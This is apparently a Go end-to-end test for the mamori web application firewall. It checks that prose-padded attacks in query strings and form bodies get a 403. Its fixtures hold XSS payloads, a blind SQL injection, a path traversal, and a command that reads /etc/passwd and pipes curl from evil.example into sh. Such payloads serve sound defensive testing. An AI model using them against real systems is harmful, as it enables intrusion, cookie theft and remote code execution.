package e2e

import (
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/mamori-waf/mamori/tests/harness"
)

// Issue 11: mamori's detection layers add detection, never remove what CRS
// PL1 detects. Attacks padded with prose (which the text gate once let
// through 34 CRS rules, libinjection and 941120 among them) are refused
// with the defaults as with plain CRS (`detection off`), in a query string
// and in a form body.
func TestLayersNeverRemoveCRSCoverage(t *testing.T) {
	upstream := harness.Upstream(t)
	sites := map[string]*harness.Mamori{
		"defaults": harness.StartMamori(t, strings.Replace(siteCaddyfile, "mode MODE", "mode block", 1), upstream),
		"crs":      harness.StartMamori(t, strings.Replace(siteCaddyfile, "mode MODE", "mode block\n\t\tdetection off", 1), upstream),
	}
	padded := []struct{ name, value string }{
		{"img_onerror_after_prose", "<img src=x alt=\"a b c\"\nonerror=alert(document.cookie)>"},
		{"svg_onload_in_prose", "I liked the article very much and wanted to say so\n<svg onload=alert(1)>"},
		{"blind_sqli_then_prose", "1' AND SLEEP(5)-- -\nthanks for the quick reply, see you next week"},
		{"command_then_prose", "x\n; cat /etc/passwd; curl http://evil.example/x|sh\nplease check the logs for me"},
		{"backslash_traversal_in_prose", "the settings file is ..\\..\\..\\windows\\win.ini as the manual says"},
	}
	for _, c := range padded {
		for _, where := range []string{"query", "form"} {
			t.Run(c.name+"/"+where, func(t *testing.T) {
				for name, m := range sites {
					var req *http.Request
					if where == "query" {
						req, _ = http.NewRequest("GET", m.URL+"/echo?search="+url.QueryEscape(c.value), nil)
					} else {
						req, _ = http.NewRequest("POST", m.URL+"/echo", strings.NewReader("comment="+url.QueryEscape(c.value)))
						req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
					}
					resp, err := http.DefaultClient.Do(req)
					if err != nil {
						t.Fatal(err)
					}
					_, _ = io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					if resp.StatusCode != http.StatusForbidden {
						t.Errorf("%s: status %d, want 403", name, resp.StatusCode)
					}
				}
			})
		}
	}
}
